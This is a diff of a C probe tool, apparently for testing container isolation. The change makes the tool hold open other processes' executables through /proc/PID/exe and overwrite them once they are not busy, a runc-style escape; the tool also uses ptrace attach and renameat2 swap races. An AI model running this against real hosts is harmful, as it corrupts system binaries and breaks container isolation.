@@ -4,11 +4,12 @@
  *
  *	peek watch MARK     for every process that appears: attach to it with ptrace(2), and look
  *	                    for the host's file MARK below its root, its directory, its descriptors
- *	peek overwrite      for every process: open its executable for writing, and write
+ *	peek overwrite      keep open the executable of every process that is none of the image's,
+ *	                    open it again for writing as soon as it is not busy, and write
  *	peek swap A B       exchanges two names again and again (renameat2(2), RENAME_EXCHANGE)
  *	peek who            its user ids and effective capabilities
  *
- * The first two run until the file /stop is there, and tell then what they got and saw.
+ * The first two run until the file /flag/stop is there, and tell then what they got and saw.
  */
 #include <ctype.h>
 #include <dirent.h>
@@ -78,42 +79,47 @@ static void watch_one(const char *pid, const char *mark)
 	ptrace(PTRACE_DETACH, number, 0, 0);
 }
 
-static void overwrite_one(const char *pid)
+static int held[32]; /* descriptors of such executables */
+static int n_held;
+
+static void hold_one(const char *pid)
 {
-	char path[300], again[64];
-	int fd, out;
+	char path[300];
+	int fd;
 
 	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
-	fd = open(path, O_RDONLY | O_CLOEXEC);
-	if (fd < 0)
-		fd = open(path, O_PATH | O_CLOEXEC);
+	fd = n_held == sizeof(held) / sizeof(*held) ? -1 : open(path, O_RDONLY | O_CLOEXEC);
 	if (fd < 0)
 		return;
-	/* while it runs, the file is busy; held by our descriptor, it is not any more when that has ended */
-	snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
-	if (is_ours(again)) { /* looked at only now: it may have become one of ours meanwhile */
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	if (is_ours(path)) /* looked at only now: it may have become one of ours meanwhile */
 		close(fd);
-		return;
-	}
-	for (int tries = 0; tries < 2000; tries++) {
-		out = open(again, O_WRONLY | O_CLOEXEC);
-		if (out >= 0) {
-			char name[200] = "";
+	else
+		held[n_held++] = fd;
+}
 
-			if (write(out, "#!/bin/false\n", 13) > 0)
-				written++;
-			if (readlink(again, name, sizeof(name) - 1) > 0)
-				printf("opened for writing: %s\n", name);
-			close(out);
-			break;
-		}
+/* While a program runs, its file is busy; a descriptor of it can wait until it does not. */
+static void overwrite_held(void)
+{
+	for (int i = 0; i < n_held; i++) {
+		char path[64], name[200] = "";
+		int out;
+
+		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
+		out = open(path, O_WRONLY | O_CLOEXEC);
+		if (out < 0)
+			continue;
+		if (write(out, "#!/bin/false\n", 13) > 0)
+			written++;
+		if (readlink(path, name, sizeof(name) - 1) > 0)
+			printf("opened for writing: %s\n", name);
+		close(out);
 	}
-	close(fd);
 }
 
 static int each_process(int overwrite, const char *mark)
 {
-	while (access("/stop", F_OK)) {
+	while (access("/flag/stop", F_OK)) {
 		DIR *proc = opendir("/proc");
 		struct dirent *entry;
 
@@ -123,7 +129,7 @@ static int each_process(int overwrite, const char *mark)
 				continue;
 			seen++;
 			if (overwrite)
-				overwrite_one(entry->d_name);
+				hold_one(entry->d_name);
 			else
 				watch_one(entry->d_name, mark);
 		}
